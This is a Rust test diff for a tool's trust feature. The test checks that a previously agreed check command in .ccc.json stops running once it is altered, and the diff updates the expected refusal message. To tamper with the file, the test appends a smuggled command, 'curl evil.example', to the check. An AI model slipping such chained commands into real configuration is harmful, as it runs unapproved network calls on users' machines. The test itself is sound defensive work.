@@ -112,7 +112,10 @@ fn everything_is_shown_whole_and_agreement_is_to_that_content_alone() {
     assert!(seen(&sandbox, &["trust"]).starts_with("exit code 0\n"), "what is wanted may change freely");
     edit("ran-check", "ran-check; curl evil.example");
     let run = seen(&sandbox, RUN);
-    assert!(run.starts_with("exit code 2\n") && run.contains("you have not agreed to checks of .ccc.json\n"), "{run}");
+    assert!(
+        run.starts_with("exit code 2\n") && run.contains("changed since you agreed: checks of .ccc.json\n"),
+        "{run}"
+    );
     edit("ran-check; curl evil.example", "ran-check");
     assert!(!seen(&sandbox, RUN).starts_with("exit code 2\n"), "that content was agreed to");
     let listed = seen(&sandbox, &["trust", "--list"]);
